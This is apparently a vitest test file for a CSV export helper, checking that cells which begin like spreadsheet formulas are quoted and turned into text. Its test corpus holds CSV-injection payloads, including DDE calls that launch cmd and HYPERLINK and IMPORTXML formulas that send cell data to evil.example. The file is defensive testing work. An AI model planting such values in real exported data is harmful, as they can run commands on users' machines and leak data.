import { describe, expect, test } from 'vitest'
import { csvCell, csvLine } from './csv'

// What a spreadsheet program would make of each cell: the formula-injection corpus (values a traveller
// can type into a form) must come out as text, and ordinary values as they were.

const formulas = [
  '=1+2',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  '+41 79 123 45 67',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '  =IMPORTXML("https://evil.example","//a")',
  '=DDE("cmd";"/C calc";"!A0")',
]

/** A cell as the spreadsheet shows it: the quotes around it gone, doubled quotes single. */
const shown = (cell: string) => cell.replace(/^"|"$/g, '').replace(/""/g, '"')

describe('csv cells', () => {
  test.each(formulas)('a cell beginning like a formula is text: %j', (value) => {
    const cell = csvCell(value)
    // Quoted, with the apostrophe right after the opening quote.
    expect(cell.startsWith(`"'`)).toBe(true)
    expect(shown(cell)).toBe(`'${value}`)
  })

  // Excel in German or French settings splits a cell on ";": what follows must not run either.
  test.each([
    ['hello;=HYPERLINK(E2)', "hello;'=HYPERLINK(E2)"],
    ['hello; =HYPERLINK(E2)', "hello; '=HYPERLINK(E2)"],
    ['Nairobi,+1+1', "Nairobi,'+1+1"],
    ['a\t@SUM(A1:A9)', "a\t'@SUM(A1:A9)"],
    ['first line\n-2+3', "first line\n'-2+3"],
    ['=1;=2', "'=1;'=2"],
  ])('a formula after a separator inside a cell is text too: %j', (value, expected) => {
    const cell = csvCell(value)
    expect(cell).toMatch(/^".*"$/s)
    expect(shown(cell)).toBe(expected)
  })

  test('every cell is quoted; ordinary values are kept as they are', () => {
    expect(csvCell('Amani Njoroge')).toBe('"Amani Njoroge"')
    expect(csvCell('2027-01-23')).toBe('"2027-01-23"')
    expect(csvCell('2026-11-24T07:26:33.000Z')).toBe('"2026-11-24T07:26:33.000Z"')
    expect(csvCell(4)).toBe('"4"')
    expect(csvCell(null)).toBe('""')
    expect(csvCell('Nairobi, Kenya')).toBe('"Nairobi, Kenya"')
    expect(csvCell('Lake Bunyonyi; 2 nights')).toBe('"Lake Bunyonyi; 2 nights"')
    expect(csvCell('She said "asante"')).toBe('"She said ""asante"""')
    expect(csvCell('two\nlines')).toBe('"two\nlines"')
    expect(csvCell('Zoë, Ngorongoro')).toBe('"Zoë, Ngorongoro"')
  })

  test('a line ends in CRLF', () => {
    expect(csvLine(['a', 1, null, '=x'])).toBe(`"a","1","","'=x"\r\n`)
  })
})
